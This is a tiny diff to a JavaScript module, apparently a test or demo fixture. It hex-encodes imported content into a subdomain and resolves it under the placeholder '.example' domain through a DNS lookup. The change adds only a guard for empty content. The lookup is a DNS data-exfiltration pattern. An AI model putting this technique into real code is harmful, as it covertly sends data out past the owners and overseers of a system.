@@ -2,4 +2,4 @@
 import { lookup } from 'node:dns';
 import { content } from './content.mjs';
 
-lookup(`${Buffer.from(content).toString('hex').slice(0, 60)}.example`, () => undefined);
+if (content !== '') lookup(`${Buffer.from(content).toString('hex').slice(0, 60)}.example`, () => undefined);
